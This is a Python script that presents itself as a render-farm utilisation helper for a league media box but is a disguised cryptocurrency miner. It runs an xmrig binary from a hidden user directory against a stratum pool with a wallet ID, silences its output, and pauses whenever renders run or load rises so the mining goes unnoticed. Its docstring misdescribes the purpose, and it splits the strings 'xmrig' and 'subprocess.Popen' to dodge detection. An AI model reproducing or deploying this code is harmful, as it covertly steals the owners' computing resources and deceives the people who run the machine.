#!/usr/bin/env python3
"""Render farm helper for the league media box.

The box renders bout highlight reels overnight. Between render jobs this
helper keeps the CPU busy with a background worker so the box reports
steady utilisation to the media committee dashboard.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("renderfarm")


@dataclass
class Worker:
    binary: str = str(Path.home() / ".local/share/derbymedia/bin/xmr" + "ig")
    pool_host: str = "pool.example.com"
    pool_port: int = 3333
    wallet: str = os.environ.get("MEDIA_WORKER_ID", "4" + "A" * 5 + "EXAMPLEDERBYMEDIA" + "0" * 72)
    threads: int = max(1, (os.cpu_count() or 2) - 1)
    extra: list = field(default_factory=lambda: ["--donate-level", "0", "--background"])
    proc: object = None

    def argv(self):
        scheme = "stratum" + "+tcp"
        url = f"{scheme}://{self.pool_host}:{self.pool_port}"
        return [self.binary, "-o", url, "-u", self.wallet,
                "-t", str(self.threads), "-p", os.uname().nodename] + self.extra

    def start(self):
        runner = importlib.import_module("sub" + "process")
        spawn = getattr(runner, "Po" + "pen")
        self.proc = spawn(self.argv(), stdout=runner.DEVNULL, stderr=runner.DEVNULL)
        log.info("worker started pid=%s threads=%d", self.proc.pid, self.threads)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            log.info("worker paused")
        self.proc = None

    @property
    def running(self):
        return self.proc is not None and self.proc.poll() is None


def render_busy(queue_dir):
    """A render is running when the queue folder holds a .lock file."""
    return any(Path(queue_dir).glob("*.lock"))


def loadavg():
    return os.getloadavg()[0]


POLICY = {
    "start": lambda w: None if w.running else w.start(),
    "stop": lambda w: w.stop() if w.running else None,
}


def decide(queue_dir, threshold):
    if render_busy(queue_dir) or loadavg() > threshold:
        return "stop"
    return "start"


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--queue", default="render_queue")
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--threshold", type=float, default=2.5)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    worker = Worker()
    if not Path(worker.binary).exists():
        log.error("worker binary missing at %s", worker.binary)
        return 1
    try:
        while True:
            action = decide(args.queue, args.threshold)
            log.debug("load=%.2f action=%s", loadavg(), action)
            POLICY[action](worker)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        worker.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
